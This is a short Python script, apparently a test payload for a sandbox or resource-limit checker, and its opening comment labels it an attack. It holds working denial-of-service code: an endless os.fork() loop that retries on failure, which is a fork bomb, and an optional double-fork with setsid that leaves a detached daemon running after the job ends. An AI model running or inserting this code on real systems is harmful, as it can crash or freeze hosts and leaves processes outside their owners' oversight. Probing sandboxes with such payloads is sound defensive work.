# Attack: a fork bomb, and a daemon that would outlive the run.
import os
import sys
import time

if "__MODE__" == "daemon":
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3600)
        os._exit(0)
    print("left a daemon behind")
    sys.exit(0)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
